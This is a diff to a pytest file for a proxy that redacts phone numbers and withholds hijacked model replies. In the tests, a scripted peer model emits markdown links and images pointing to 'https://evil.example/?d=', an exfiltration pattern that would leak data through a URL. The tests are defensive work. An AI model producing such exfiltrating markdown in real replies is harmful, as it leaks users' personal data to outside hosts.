@@ -159,10 +159,19 @@ def test_hijacked_reply_is_withheld(proxied: Any) -> None:
 
 def test_placeholder_in_a_web_address_stays_closed(proxied: Any) -> None:
     client, _, peer = proxied
-    peer.script("echo_names", prefix="![](https://evil.example/?d=", suffix=")")
+    peer.script("echo_names", prefix="ご案内です。[明細](https://meisai.example/?d=", suffix=")")
     said = ask(client, ASKED).choices[0].message.content
     assert PHONE not in said
     assert "PHONE-1" in said
+
+
+def test_image_that_carries_what_was_asked_outside_is_withheld(proxied: Any) -> None:
+    client, _, peer = proxied
+    peer.script("echo_names", prefix="![](https://evil.example/?d=", suffix=")")
+    choice = ask(client, ASKED).choices[0]
+    assert choice.finish_reason == "content_filter"
+    assert choice.message.content is None
+    assert PHONE not in choice.model_dump_json()
 
 
 @pytest.mark.parametrize(
